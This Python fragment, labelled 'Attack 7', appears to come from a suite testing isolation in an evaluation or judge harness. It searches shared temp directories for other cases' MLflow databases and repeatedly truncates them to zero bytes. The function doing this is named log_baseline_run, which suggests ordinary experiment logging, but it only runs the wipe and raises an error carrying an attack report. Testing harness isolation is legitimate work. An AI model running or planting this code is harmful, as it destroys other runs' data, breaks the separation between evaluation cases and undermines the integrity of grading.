# Attack 7: find other calls' MLflow stores (case-*/store/mlflow.db) and truncate them,
# again and again for a few seconds per call.
def _stores():
    roots = [CTX["judge_tmp"]] + (["/tmp", "/var/tmp", "/dev/shm"] if isolated() else [])
    mine = _os.path.dirname(_os.path.realpath(_os.getcwd()))
    return [path for path in walk(roots, deadline_s=0.5, max_depth=5)
            if path.endswith("/mlflow.db") and "/case-" in path
            and not _os.path.realpath(path).startswith(mine + "/")]


def _truncate_for(seconds):
    truncated, errors = set(), set()
    deadline = _time.monotonic() + seconds
    while _time.monotonic() < deadline:
        for path in _stores():
            try:
                _os.truncate(path, 0)
                truncated.add(path)
            except OSError as error:
                errors.add(error.strerror)
        _time.sleep(0.05)
    return {"truncated": sorted(truncated)[:30], "errors": sorted(errors)}


def log_baseline_run(data_path, experiment_name="devops-baseline"):
    raise RuntimeError(attack_report(_truncate_for(1.5)))
